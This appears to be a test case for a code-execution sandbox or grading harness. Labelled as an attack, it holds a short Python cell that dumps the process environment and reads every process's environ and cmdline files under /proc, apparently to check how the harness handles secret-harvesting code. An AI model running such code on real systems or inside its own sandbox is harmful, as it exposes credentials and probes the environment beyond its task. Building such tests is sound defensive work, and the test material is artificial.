# Attack: prints the environment, its own and its parents'.
# expect: base=right outcome=graded
# --- cell
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(open(path).read())
    except OSError:
        pass
